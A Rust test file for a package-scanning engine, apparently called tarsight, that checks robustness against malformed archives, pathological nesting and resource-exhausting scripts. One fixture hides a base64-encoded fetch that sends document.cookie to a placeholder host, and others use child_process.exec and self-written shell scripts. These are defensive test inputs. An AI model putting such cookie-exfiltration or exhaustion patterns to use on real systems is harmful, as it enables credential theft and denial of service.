//! Broken and hostile input: an error or an `unanalysed`, never a panic, never silence.
#![allow(clippy::unwrap_used, reason = "a panic fails the test")]

use serde_json::{Value, json};
use tarsight::{Engine, Error, Limits, Report};
use tarsight_tests::{File, package, tar, tgz};

const MANIFEST: &str = r#"{"name":"p","version":"1.0.0","main":"index.js"}"#;

fn scan(files: &[File]) -> Value {
    parsed(&Engine::new().scan(&tgz(files)).unwrap())
}

fn parsed(report: &Report) -> Value {
    serde_json::from_str(&report.to_json()).unwrap()
}

fn code(bytes: &[u8]) -> &'static str {
    Engine::new().scan(bytes).map_err(|e| e.code()).unwrap_err()
}

fn index(text: &[u8]) -> Value {
    scan(&package(MANIFEST, "index.js", text))
}

fn reasons<'a>(report: &'a Value, path: &str) -> Vec<&'a str> {
    let list = report["coverage"]["unanalysed"].as_array().unwrap();
    list.iter()
        .filter(|u| u["path"] == path)
        .filter_map(|u| u["reason"].as_str())
        .collect()
}

#[test]
fn what_is_no_archive_is_an_error_with_a_code() {
    assert_eq!(code(b""), "empty");
    assert_eq!(code(b"hello, I am a text file\n"), "not-an-archive");
    assert_eq!(code(b"PK\x03\x04 and so on"), "not-an-archive");
    assert_eq!(
        code(b"\x28\xb5\x2f\xfd\x00\x00\x00\x00"),
        "unsupported-compression"
    );
    assert!(matches!(
        Engine::new().scan(b"\x1f\x8b\x08\x00"),
        Err(Error::Damaged { .. } | Error::NotAnArchive { .. })
    ));
}

#[test]
fn a_cut_archive_is_an_error_or_not_complete() {
    // Text that does not compress well, so that there are many places to cut; first in the
    // archive, so that a cut of the plain tar file is inside an entry.
    let noise: Vec<String> = (0u64..9_000)
        .map(|n| n.wrapping_mul(0x9e37_79b9_7f4a_7c15))
        .map(|n| format!("exports.x{n:016x} = '{:016x}';\n", n.rotate_left(29)))
        .collect();
    let noise = noise.concat().into_bytes();
    let inside = 512 + noise.len();
    let mut files = vec![("noise.js".to_owned(), noise)];
    files.extend(package(MANIFEST, "index.js", b"exports.a = 1;\n"));
    let (zipped, plain) = (tgz(&files), tar(&files));
    let engine = Engine::new();
    for whole in [&zipped[..zipped.len() - 1], &plain[..inside]] {
        for end in (1..whole.len()).step_by(997) {
            if let Ok(report) = engine.scan(&whole[..end]) {
                let report = parsed(&report);
                assert_eq!(report["coverage"]["complete"], false, "cut at {end}");
            }
        }
    }
}

#[test]
fn a_package_without_manifest_has_a_report() {
    let report = scan(&[("index.js".to_owned(), b"exports.a = 1;\n".to_vec())]);
    assert_eq!(report["subject"]["name"], Value::Null);
    assert_eq!(report["subject"]["fileCount"], 1);
}

#[test]
fn an_odd_manifest_has_a_report() {
    for odd in [
        "[]",
        "null",
        "7",
        "\"text\"",
        "{",
        "{\"name\":[],\"scripts\":7,\"bin\":null}",
    ] {
        let report = scan(&package(odd, "index.js", b"exports.a = 1;\n"));
        assert_eq!(report["subject"]["name"], Value::Null, "{odd}");
        assert_eq!(report["subject"]["fileCount"], 2, "{odd}");
    }
}

#[test]
fn code_that_does_not_parse_is_not_examined_and_never_low() {
    let report = index(b"module.exports = function ( {\n  return %%% ]]\n");
    assert_eq!(reasons(&report, "index.js"), ["syntax-error"]);
    assert_eq!(report["coverage"]["complete"], false);
    let level = &report["risk"]["level"];
    assert!(level != "none" && level != "low", "{level}");
}

#[test]
fn utf16_text_is_read() {
    let text = "require('child_process').exec('echo inert');\n";
    let mut bytes = vec![0xff, 0xfe];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let report = index(&bytes);
    assert_eq!(reasons(&report, "index.js"), [""; 0]);
    let behaviours = report["behaviours"].as_array().unwrap();
    assert!(
        behaviours.iter().any(|b| b["id"] == "process.exec"),
        "{behaviours:?}"
    );
}

#[test]
fn bytes_that_are_no_text_have_a_report() {
    let report = index(&[0xff, 0x00, 0xfe, 0x80, 0x1b, 0x43].repeat(500));
    assert_eq!(report["coverage"]["complete"], false);
}

#[test]
fn a_line_over_the_limit_is_named() {
    let mut text = b"var a=[".to_vec();
    text.resize(40 << 20, b'1');
    text.extend(b"];\n");
    assert_eq!(reasons(&index(&text), "index.js"), ["file-too-large"]);
}

#[test]
fn deep_and_ambiguous_nesting_is_named() {
    let deep = |open: &str, close: &str, count| open.repeat(count) + "1" + &close.repeat(count);
    for (text, what) in [
        (deep("[", "]", 300_000), "brackets"),
        (deep("(", ")", 300_000), "parentheses"),
        ("!".repeat(300_000) + "1", "unary"),
        ("{".repeat(300_000), "open blocks"),
        (deep("(a=", ")", 20_000), "arrow lookahead"),
    ] {
        let report = index(format!("module.exports = {text}").as_bytes());
        assert_eq!(report["coverage"]["complete"], false, "{what}");
        assert_eq!(reasons(&report, "index.js").len(), 1, "{what}");
    }
}

/// Whoever calls the engine may have little stack: nothing that nests may need it.
#[test]
fn the_caller_s_stack_is_not_used_up() {
    const STACK: usize = 128 << 10;
    let deep = |open: &str, close: &str| open.repeat(100_000) + &close.repeat(100_000);
    let script = |line: &str| {
        json!({ "name": "p", "version": "1.0.0", "scripts": { "install": line } }).to_string()
    };
    for (path, text) in [
        ("package.json", deep("[", "]")),
        ("package.json", deep("{\"a\":", "}")),
        ("package.json", script(&deep("$(", ")"))),
        ("package.json", script(&"if a; then ".repeat(50_000))),
        ("binding.gyp", deep("{'a':[", "]}")),
        (".github/workflows/a.yml", deep("[", "]")),
        (".github/workflows/a.yml", "- ".repeat(100_000)),
        (".vscode/tasks.json", deep("[", "]")),
        (".codex/config.toml", format!("a = {}", deep("[", "]"))),
        (".codex/config.toml", format!("{}b = 1\n", "a.".repeat(70))),
        ("index.js", deep("(", ")")),
        ("index.js", deep("{", "}")),
        ("install.sh", deep("( ", ")")),
        ("install.ps1", deep("$(", ")")),
        ("install.bat", deep("(", ")")),
    ] {
        let files = package(MANIFEST, path, text.as_bytes());
        let scan = move || parsed(&Engine::new().scan(&tgz(&files)).unwrap());
        let thread = std::thread::Builder::new().stack_size(STACK);
        let report = thread.spawn(scan).unwrap().join().unwrap();
        assert_eq!(report["schema"], "tarsight.report/1", "{path}");
    }
}

/// Functions that call the one before them twice: small scripts that would run for long.
#[test]
fn many_scripts_share_what_scripts_may_cost() {
    let doubled: String = (1..14)
        .map(|at| format!("f{at}() {{ f{0}; f{0}; }}\n", at - 1))
        .collect();
    let script = format!("f0() {{ echo a; }}\n{doubled}f13\n");
    let mut files = package(MANIFEST, "index.js", b"exports.a = 1;\n");
    files.extend((0..150).map(|at| (format!("s{at}.sh"), script.clone().into_bytes())));
    let report = scan(&files);
    let unanalysed = report["coverage"]["unanalysed"].as_array().unwrap();
    let over = |one: &&Value| one["detail"].as_str().unwrap().contains("in one package");
    let cut = unanalysed.iter().filter(over).count();
    assert!((1..150).contains(&cut), "{cut} of 150");
}

/// A file that scripts read or run again and again is paid for each time.
#[test]
fn a_file_that_is_read_again_and_again_has_a_report() {
    let long = format!("{}\n", "#".repeat(60_000));
    for script in [
        format!("{long}sh < s.sh\nsh < s.sh\ncat s.sh | sh\n"),
        format!("{long}{}", "cat s.sh > /tmp/a\n".repeat(300)),
    ] {
        let report = scan(&package(MANIFEST, "s.sh", script.as_bytes()));
        let found = reasons(&report, "s.sh");
        assert!(found.contains(&"budget-exhausted"), "{found:?}");
    }
}

/// A script that code writes is read again for each command that names it: each byte counts.
#[test]
fn many_commands_share_what_a_written_script_may_cost() {
    const SCRIPT: usize = 20_000;
    let of = |commands: usize| {
        let script = "#".repeat(SCRIPT);
        let runs = (0..commands).map(|at| format!("c.exec('sh /tmp/a.sh {at}');\n"));
        let code = format!(
            "const c = require('child_process');\n\
             require('fs').writeFileSync('/tmp/a.sh', '{script}');\n{}",
            runs.collect::<String>()
        );
        let mut limits = Limits::default();
        limits.set("package-steps", 5 * SCRIPT as u64).unwrap();
        let engine = Engine::builder().limits(limits).build().unwrap();
        let report = engine.scan(&tgz(&package(MANIFEST, "index.js", code.as_bytes())));
        let report = parsed(&report.unwrap());
        let unanalysed = report["coverage"]["unanalysed"].as_array().unwrap();
        let named = |one: &Value| one["detail"].as_str().unwrap().contains("package-steps");
        unanalysed.iter().any(named)
    };
    assert!(!of(3));
    assert!(of(30));
}

#[test]
fn fifty_thousand_files_have_a_report() {
    let mut files = vec![("package.json".to_owned(), MANIFEST.as_bytes().to_vec())];
    for n in 0..50_000 {
        let kind = if n % 2 == 0 { "js" } else { "txt" };
        files.push((format!("f/{n:05}.{kind}"), b"1\n".to_vec()));
    }
    assert_eq!(scan(&files)["subject"]["fileCount"], json!(50_001));
}

#[test]
fn one_program_in_many_encodings_and_comments_has_a_report() {
    // `fetch("https://x.invalid/" + document.cookie)` and blanks.
    const ENCODED: &str =
        "ZmV0Y2goImh0dHBzOi8veC5pbnZhbGlkLyIgKyBkb2N1bWVudC5jb29raWUpICAgICAgICAgICAg";
    let line = format!("// {ENCODED}\n");
    let text = "alert(document.cookie, 1);\n".repeat(40_000);
    let runs = "eval('alert(document.cookie, 1);');\n".repeat(200);
    let code = format!("/*{text}*/\n{runs}{}", line.repeat(20_000));
    let report = index(code.as_bytes());
    let behaviours = report["behaviours"].as_array().unwrap();
    let has = |id: &str| behaviours.iter().any(|one| one["id"] == id);
    assert!(has("obfuscation.encoded-code") && has("storage.browser"));
    assert!(!has("obfuscation.code-in-comment"), "it is in the code too");
}
